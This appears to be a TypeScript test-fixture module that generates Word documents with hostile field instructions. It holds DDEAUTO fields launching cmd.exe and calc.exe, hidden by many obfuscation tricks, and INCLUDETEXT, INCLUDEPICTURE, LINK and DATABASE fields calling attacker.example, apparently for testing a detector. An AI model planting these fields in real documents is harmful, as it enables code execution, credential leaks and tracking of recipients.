import {
  type DocxMore,
  documentOf,
  docx,
  head,
  namespaces,
  paragraph,
  relationships,
  root,
  run,
} from './docx-parts.ts';
import type { Row } from './variant.ts';

const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot; ';
const starts = 'Word asks to update the fields, and starts the program.';
const fetches = 'Word fetches from the address when fields are updated or the file is printed.';

const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const simple = (text: string) => `<w:fldSimple w:instr="${text}">${run('1')}</w:fldSimple>`;
/** A field whose instruction is in as many runs as there are parts. */
const complex = (...parts: readonly string[]) =>
  mark('begin') + parts.map(instruction).join('') + mark('separate') + run('1') + mark('end');
const nested = (...content: readonly string[]) =>
  mark('begin') + content.join('') + mark('separate') + run('1') + mark('end');
const inBody = (content: string, more: DocxMore = {}) => docx({ ...more, body: paragraph(content) });
const letters = (text: string) => [...text].map((letter) => letter.charCodeAt(0)).join(' ');
const quoted = (text: string) => nested(instruction(` QUOTE ${letters(text)} `));
const entities = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join('');

/** The instruction in another part of the document, which the body refers to. */
function inPart(part: string, name: string, around: (content: string) => string): Uint8Array {
  const refers: Readonly<Record<string, string>> = {
    header1: '<w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr>',
    footer1: '<w:sectPr><w:footerReference w:type="default" r:id="rId9"/></w:sectPr>',
    footnotes: paragraph('<w:r><w:footnoteReference w:id="2"/></w:r>'),
    endnotes: paragraph('<w:r><w:endnoteReference w:id="2"/></w:r>'),
    comments: paragraph(
      '<w:commentRangeStart w:id="2"/><w:commentRangeEnd w:id="2"/><w:r><w:commentReference w:id="2"/></w:r>',
    ),
  };
  const type = part === 'glossary/document' ? 'glossaryDocument' : part.replace(/\d/, '');
  const refer = refers[part] ?? '';
  const section = refer.startsWith('<w:sectPr');
  return docx({
    ...(section ? {} : { body: refer }),
    relations: { rId9: { type, target: `${part}.xml` } },
    parts: {
      [`word/${part}.xml`]: root(name, around(paragraph(complex(dde)))),
      ...(section && { 'word/document.xml': documentOf('').replace('<w:sectPr/>', refer) }),
    },
  });
}

const shape = (content: string) =>
  `<wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr/><wps:txbx><w:txbxContent>${content}</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp>`;
const drawing = (content: string) =>
  `<w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="3" name="Box"/><a:graphic><a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">${shape(content)}</a:graphicData></a:graphic></wp:inline></w:drawing>`;
const old = (content: string) =>
  `<w:pict><v:shape style="width:90pt;height:90pt"><v:textbox><w:txbxContent>${content}</w:txbxContent></v:textbox></v:shape></w:pict>`;
const choice = (first: string, second: string) =>
  `<mc:AlternateContent><mc:Choice Requires="wps">${first}</mc:Choice><mc:Fallback>${second}</mc:Fallback></mc:AlternateContent>`;
const field = paragraph(complex(dde));
const calm = paragraph(run('A box'));

const prefixed = documentOf(paragraph(complex(dde)))
  .replaceAll(/(<\/?)w:/g, '$1q7:')
  .replaceAll(' w:', ' q7:')
  .replace('xmlns:w=', 'xmlns:q7=');
const strict = documentOf(paragraph(complex(dde))).replace(
  'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
  'http://purl.oclc.org/ooxml/wordprocessingml/main',
);
const strictRelations = relationships({
  rId1: {
    type: 'http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument',
    target: 'word/document.xml',
  },
});
const unprefixed = `${head}<document xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ${namespaces}><body><p><r><t>Amara Okafor</t></r></p><p><fldSimple w:instr="${dde}"><r><t>1</t></r></fldSimple></p></body></document>`;
const inDocument = (text: string) => docx({ parts: { 'word/document.xml': text } });

/** Instructions that start programs or fetch, in each form and place. */
export const docxFields: readonly Row[] = [
  ['DDEAUTO in a simple field', inBody(simple(dde)), starts],
  [
    'DDE in a complex field',
    inBody(complex(` ${dde.replace('AUTO', '')}`)),
    'Word starts the program when the field is updated.',
  ],
  [
    'DDEAUTO split over runs',
    inBody(complex('D', 'DE', 'AU', 'TO c:\\\\windows\\\\system32\\\\cmd.exe ', '&quot;/k calc&quot;')),
    starts,
  ],
  [
    'DDEAUTO split over paragraphs',
    docx({
      body:
        paragraph(mark('begin') + instruction('DDEAU')) +
        paragraph(`${instruction('TO c:\\\\a.exe x')}${mark('separate')}${run('1')}${mark('end')}`),
    }),
    'Word joins the parts of the instruction where it can, and starts the program.',
  ],
  [
    'DDEAUTO by entities',
    inBody(complex(`${entities('DDEAUTO')} c:\\\\windows\\\\system32\\\\cmd.exe x`)),
    starts,
  ],
  [
    'dDeAuTo in a CDATA section',
    inBody(complex('<![CDATA[dDe]]><![CDATA[AuTo c:\\\\windows\\\\system32\\\\cmd.exe "x"]]>')),
    starts,
  ],
  [
    'DDEAUTO split by a comment and an instruction of XML',
    inBody(complex('DDE<!-- x -->AU<?x y?>TO c:\\\\windows\\\\system32\\\\cmd.exe x')),
    starts,
  ],
  [
    'DDEAUTO split by a proof mark, a bookmark and an insertion',
    inBody(
      mark('begin') +
        instruction('DDE') +
        '<w:proofErr w:type="spellStart"/><w:bookmarkStart w:id="5" w:name="b"/>' +
        `<w:ins w:id="6" w:author="A">${instruction('AUTO c:\\\\a.exe x')}</w:ins>` +
        '<w:bookmarkEnd w:id="5"/>' +
        mark('separate') +
        run('1') +
        mark('end'),
    ),
    starts,
  ],
  [
    'DDEAUTO within a hyperlink and a smart tag',
    inBody(`<w:hyperlink w:anchor="x"><w:smartTag w:element="e">${complex(dde)}</w:smartTag></w:hyperlink>`),
    starts,
  ],
  [
    'DDEAUTO in a content control in a table',
    docx({
      body: `<w:sdt><w:sdtContent><w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tcPr/>${field}</w:tc></w:tr></w:tbl></w:sdtContent></w:sdt>${calm}`,
    }),
    starts,
  ],
  [
    'DDEAUTO quoted by numbers',
    inBody(nested(quoted('DDEAUTO'), instruction(' c:\\\\windows\\\\system32\\\\cmd.exe x'))),
    starts,
  ],
  [
    'whole instruction kept in a variable',
    inBody(
      nested(
        instruction(' SET c '),
        nested(instruction(` QUOTE ${letters('c:\\windows\\system32\\cmd.exe')} `)),
      ) +
        nested(instruction(' DDE'), instruction('AUTO '), nested(instruction(' REF c ')), instruction(' x')),
    ),
    starts,
  ],
  [
    'DDE within IF',
    inBody(nested(instruction(' IF 1 = 1 &quot;'), complex(dde), instruction('&quot; '))),
    starts,
  ],
  [
    'DDEAUTO in a deleted instruction',
    inBody(
      `<w:del w:id="7" w:author="A">${mark('begin')}<w:r><w:delInstrText>${dde}</w:delInstrText></w:r>${mark('separate')}${mark('end')}</w:del>`,
    ),
    'Word starts the program once the deletion is rejected.',
  ],
  ['DDEAUTO in a header', inPart('header1', 'hdr', (content) => content), starts],
  ['DDEAUTO in a footer', inPart('footer1', 'ftr', (content) => content), starts],
  [
    'DDEAUTO in a footnote',
    inPart('footnotes', 'footnotes', (content) => `<w:footnote w:id="2">${content}</w:footnote>`),
    starts,
  ],
  [
    'DDEAUTO in an endnote',
    inPart('endnotes', 'endnotes', (content) => `<w:endnote w:id="2">${content}</w:endnote>`),
    starts,
  ],
  [
    'DDEAUTO in a comment',
    inPart('comments', 'comments', (content) => `<w:comment w:id="2" w:author="A">${content}</w:comment>`),
    starts,
  ],
  [
    'DDEAUTO in the glossary',
    inPart(
      'glossary/document',
      'glossaryDocument',
      (content) =>
        `<w:docParts><w:docPart><w:docPartPr><w:name w:val="a"/></w:docPartPr><w:docPartBody>${content}</w:docPartBody></w:docPart></w:docParts>`,
    ),
    'Word starts the program when the building block is inserted.',
  ],
  ['DDEAUTO in a text box', inBody(`<w:r>${drawing(field)}</w:r>`), starts],
  ['DDEAUTO in a text box of old', inBody(`<w:r>${old(field)}</w:r>`), starts],
  ['DDEAUTO in the choice', inBody(`<w:r>${choice(drawing(field), old(calm))}</w:r>`), starts],
  [
    'DDEAUTO in the fallback',
    inBody(`<w:r>${choice(drawing(calm), old(field))}</w:r>`),
    'LibreOffice and older versions of Word take the fallback, and update the field.',
  ],
  ['DDEAUTO under another prefix', inDocument(prefixed), starts],
  ['DDEAUTO without a prefix', inDocument(unprefixed), starts],
  [
    'DDEAUTO in the strict namespace',
    docx({ parts: { 'word/document.xml': strict, '_rels/.rels': strictRelations } }),
    starts,
  ],
  [
    'INCLUDETEXT',
    inBody(complex(' INCLUDETEXT &quot;\\\\\\\\attacker.example\\\\share\\\\a.docx&quot; ')),
    fetches,
  ],
  [
    'INCLUDEPICTURE',
    inBody(complex(' INCLUDE', 'PICTURE &quot;https://attacker.example/seen.png&quot; \\d ')),
    'Word fetches the picture when the file is opened.',
  ],
  ['INCLUDE, the old name', inBody(simple(' INCLUDE &quot;https://attacker.example/a.docx&quot; ')), fetches],
  [
    'LINK',
    inBody(
      complex(' LINK Excel.Sheet.12 &quot;https://attacker.example/a.xlsx&quot; &quot;&quot; \\a \\f 0 \\p '),
    ),
    'Word asks to update the link, and fetches the file.',
  ],
  ['IMPORT', inBody(complex(' IMPORT &quot;https://attacker.example/a.png&quot; \\d ')), fetches],
  [
    'DATABASE',
    inBody(
      complex(
        ' DATABASE \\d &quot;\\\\\\\\attacker.example\\\\a.mdb&quot; \\c &quot;DSN=x&quot; \\s &quot;SELECT * FROM a&quot; ',
      ),
    ),
    fetches,
  ],
  [
    'RD, a file referred to',
    inBody(complex(' RD &quot;\\\\\\\\attacker.example\\\\share\\\\a.docx&quot; ')),
    fetches,
  ],
  [
    'EMBED of an object',
    inBody(complex(' EMBED Package ')),
    'Word shows an object that starts on a double click.',
  ],
  [
    'HYPERLINK to a file',
    inBody(complex(' HYPER', 'LINK &quot;file:///c:/windows/system32/calc.exe&quot; ')),
    'Word asks to open the program on a click.',
  ],
  [
    'HYPERLINK to a share, by a nested field',
    inBody(nested(instruction(' HYPERLINK '), quoted('\\\\attacker.example\\share\\a.exe'))),
    'Word asks to open the program on a click.',
  ],
  [
    'MACROBUTTON',
    inBody(complex(' MACROBUTTON AutoOpen Click here ')),
    'Word runs a macro of that name on a double click.',
  ],
];
